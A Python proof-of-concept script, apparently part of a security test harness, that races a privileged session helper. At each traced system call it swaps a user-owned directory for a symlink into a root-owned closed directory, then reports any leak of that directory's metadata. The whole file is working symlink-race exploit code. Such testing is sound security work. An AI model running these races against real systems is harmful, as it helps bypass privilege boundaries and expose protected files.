#!/usr/bin/python3
"""Exchanges a directory above a starting session's home for a link into a closed directory, before each of the system
calls of one of its processes. For the host's root.

home_everywhere VICTIM STRIDE   prints "leak …" when the session shows anything of what is in the closed directory
"""

import os
import shutil
import subprocess
import sys
import tempfile

import starts
import stepper

ABOVE = "/home/alice/above"
# Of root's, closed, with a directory in it of which the mode gives it away: 02751.
CLOSED = "/srv/closed"
SCRIPT = f"stat -c 'seen %a %u %g' {ABOVE}/inside {ABOVE}"


def prepare():
    if os.path.islink(ABOVE):
        os.unlink(ABOVE)
    shutil.rmtree(ABOVE + ".own", ignore_errors=True)
    os.makedirs(f"{ABOVE}/inside/home", exist_ok=True)
    for path in (ABOVE, f"{ABOVE}/inside", f"{ABOVE}/inside/home"):
        os.chown(path, 1000, 1000)


def swap():
    os.rename(ABOVE, ABOVE + ".own")
    os.symlink(CLOSED, ABOVE)


victim, stride = (int(one) for one in sys.argv[1:3])
moment = 1
while True:
    prepare()
    with tempfile.TemporaryFile("w+") as output:
        home = f"{ABOVE}/inside/home"
        session = [starts.HELPER, "session", "--home", home, "--as", "root", "--", "sh", "-c", SCRIPT]
        more = stepper.at_moment(session, victim, moment, lambda pid: swap(), starts.ALICE, output.fileno())
        if left := starts.until_none_is_left():
            sys.exit(f"left over: {left}")
        output.seek(0)
        text = output.read()
    if "2751" in text:
        print(f"leak at system call {moment}: {text}", flush=True)
    if not more:
        break
    moment += stride
print(f"{moment} calls", flush=True)
